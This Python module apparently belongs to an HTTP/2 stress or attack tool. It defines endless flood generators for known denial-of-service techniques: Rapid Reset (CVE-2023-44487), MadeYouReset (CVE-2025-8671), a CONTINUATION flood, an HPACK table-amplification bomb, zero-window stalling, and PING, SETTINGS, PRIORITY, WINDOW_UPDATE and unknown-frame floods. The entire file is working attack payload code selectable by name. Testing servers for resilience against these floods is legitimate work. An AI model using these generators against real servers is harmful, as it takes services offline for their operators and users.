"""Floods of HTTP/2 frames. Each is a generator of pieces, (bytes, number of frames), that never ends by itself."""
import itertools
import struct

from . import frames
from .frames import frame, request

DEEP = 4000


def streams():
    return itertools.count(1, 2)


def rapid_reset():
    """CVE-2023-44487."""
    for stream in streams():
        yield (frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, stream, request("GET", "/hello"))
               + frame(frames.RST_STREAM, 0, stream, struct.pack(">I", frames.CANCEL))), 2


def made_you_reset():
    """CVE-2025-8671: a fault of each stream lets the server reset it."""
    for stream in streams():
        yield (frame(frames.HEADERS, frames.END_HEADERS, stream, request("POST", "/hello"))
               + frame(frames.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))), 2


def continuation():
    """A block of fields that does not end."""
    yield frame(frames.HEADERS, frames.END_STREAM, 1, request("GET", "/hello")), 1
    for number in itertools.count():
        yield frame(frames.CONTINUATION, 0, 1, frames.literal(f"x-{number}", "y")), 1


def ping():
    for number in itertools.count():
        yield frame(frames.PING, 0, 0, struct.pack(">Q", number)), 1


def settings():
    for number in itertools.count():
        yield frames.settings(_4=65535 + number % 2), 1


def priority():
    for number in itertools.count():
        yield frame(frames.PRIORITY, 0, 2 * (number % 1000) + 1, struct.pack(">IB", 0, number % 256)), 1


def window_update():
    while True:
        yield frame(frames.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 1


def empty_data():
    yield frame(frames.HEADERS, frames.END_HEADERS, 1, request("POST", "/hello")), 1
    while True:
        yield frame(frames.DATA, 0, 1), 1


def unknown():
    while True:
        yield frame(0xEE, 0, 0, b"12345678"), 1


def hpack_bomb():
    """One field of 4,000 bytes put in the table, then named 8,000 times by one byte each: 32 MB of 12 KB, and again."""
    yield frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, 1,
                request("GET", "/hello") + frames.literal("x", "y" * DEEP, indexed=True)), 1
    for stream in itertools.count(3, 2):
        yield frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, stream, request("GET", "/hello") + b"\xbe" * 8000), 1


def zero_window():
    """Asks for large bodies and takes none of them: cut by time, if at all."""
    yield frames.settings(_4=0), 1
    for stream in itertools.islice(streams(), 100):
        yield frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, stream, request("GET", "/big")), 1
    while True:
        yield b"", 0


FLOODS = {
    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "continuation": continuation, "ping": ping,
    "settings": settings, "priority": priority, "window-update": window_update, "empty-data": empty_data,
    "unknown": unknown, "hpack-bomb": hpack_bomb, "zero-window": zero_window,
}
